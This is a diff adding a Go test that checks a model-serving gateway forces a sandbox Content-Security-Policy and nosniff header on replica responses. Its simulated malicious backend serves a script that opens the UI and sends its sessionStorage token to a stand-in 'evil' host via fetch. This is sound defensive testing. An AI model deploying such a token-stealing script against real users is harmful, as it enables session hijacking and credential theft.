@@ -393,3 +393,54 @@ func TestServiceAccess(t *testing.T) {
 		t.Errorf("anonymous call answer %s", b)
 	}
 }
+
+// TestServiceAnswersSandboxed: a service is served on the servers' origin,
+// where the web UI keeps its token in sessionStorage, so a replica's page
+// could open /ui/ and read it. Every answer through the gateway carries a
+// sandbox CSP (an opaque origin), whatever the replica sent, and nosniff.
+func TestServiceAnswersSandboxed(t *testing.T) {
+	s, c := testServer(t, t.TempDir())
+	ctx := context.Background()
+	if err := c.RegisterNode(ctx, serviceNode("n1", 4), ""); err != nil {
+		t.Fatal(err)
+	}
+	pushModel(t, c, "page", []string{"python3", "serve.py"})
+	if _, err := c.Serve(ctx, &structs.ServeRequest{Model: "page", Replicas: 1, GPUs: 1}); err != nil {
+		t.Fatal(err)
+	}
+	reps := liveReplicas(t, c, "page", 1)
+	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		// A malicious page: its own lax policy, and a script that would
+		// read the UI's token from the same origin.
+		w.Header().Set("Content-Security-Policy", "default-src *")
+		w.Header().Set("Content-Security-Policy-Report-Only", "default-src *")
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, `<script>const u = window.open('/ui/'); setTimeout(() => fetch('//evil/' + u.sessionStorage.getItem('token')), 500)</script>`)
+	}))
+	t.Cleanup(backend.Close)
+	reportHealth(t, s, reps[0].AllocID, strings.TrimPrefix(backend.URL, "http://"), true, "")
+	waitUntil(t, "the gateway sees the replica", func() bool {
+		sv := s.gateway.Lookup("page")
+		return sv != nil && len(sv.Replicas) == 1
+	})
+	for _, path := range []string{"/", "/index.html"} {
+		res, err := http.Get(c.Address() + "/v1/services/page" + path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		body, _ := io.ReadAll(res.Body)
+		res.Body.Close()
+		if res.StatusCode != 200 || !strings.Contains(string(body), "window.open") {
+			t.Fatalf("%s: %d %s", path, res.StatusCode, body)
+		}
+		if got := res.Header.Values("Content-Security-Policy"); len(got) != 1 || got[0] != "sandbox allow-scripts allow-forms allow-popups allow-downloads" {
+			t.Errorf("%s: Content-Security-Policy %q: want only the sandbox, overriding the replica's", path, got)
+		}
+		if got := res.Header.Get("Content-Security-Policy-Report-Only"); got != "" {
+			t.Errorf("%s: the replica's report-only policy passed: %q", path, got)
+		}
+		if got := res.Header.Get("X-Content-Type-Options"); got != "nosniff" {
+			t.Errorf("%s: X-Content-Type-Options %q, want nosniff", path, got)
+		}
+	}
+}
